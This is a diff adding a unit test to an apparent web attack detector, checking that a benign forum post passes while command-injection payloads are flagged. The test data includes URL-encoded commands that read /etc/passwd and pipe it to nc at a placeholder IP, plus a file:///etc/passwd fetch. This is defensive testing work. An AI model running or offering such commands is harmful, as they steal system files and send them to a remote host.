@@ -389,5 +389,23 @@ TEST_F(ContextGradingTest, TelemetryIsNotAnInjection) {
   EXPECT_TRUE(get("/fetch?url=file%3A%2F%2F%2Fetc%2Fpasswd"));
 }
 
+// A forum post sent as a form field (Discourse's "raw"): a written text, judged as a document.
+TEST_F(ContextGradingTest, PostedTextInAFormFieldIsADocument) {
+  std::vector<Header> form{Header{"Content-Type", "application/x-www-form-urlencoded"}};
+  const auto post = [&](std::string_view body) {
+    RequestView r{.method = "POST", .target = "/posts.json", .versionMinor = 1, .headers = form,
+                  .body = body, .bodyTruncated = false};
+    return registered(engine_->inspect(r)).attack();
+  };
+  // a tldr-style answer: descriptions and commands in code spans
+  EXPECT_FALSE(post("raw=%23+dnf5+group%0A%0A%3E+This+command+is+an+alias+of+%60dnf+group%60.%0A%3E+"
+                    "Note%3A+From+Fedora+37+to+40+(inclusive)%2C+%60dnf%60+runs+DNF+v4+while+%60"
+                    "dnf5%60+runs+DNF+v5.%0A%0A-+View+documentation+for+the+original+command%3A%0A"
+                    "%0A%60tldr+dnf+group%60%0A&category=1&topic_id=12420&archetype=regular"));
+  // One line, or a few words: a parameter, and the command counts.
+  EXPECT_TRUE(post("topic_id=42&raw=x%3B+cat+%2Fetc%2Fpasswd+%7C+nc+198.51.100.7+4444"));
+  EXPECT_TRUE(post("topic_id=42&raw=hi%0A%0Athere%0A%60cat+%2Fetc%2Fpasswd%60%3B+id"));
+}
+
 } // namespace
 } // namespace bulwark::detect
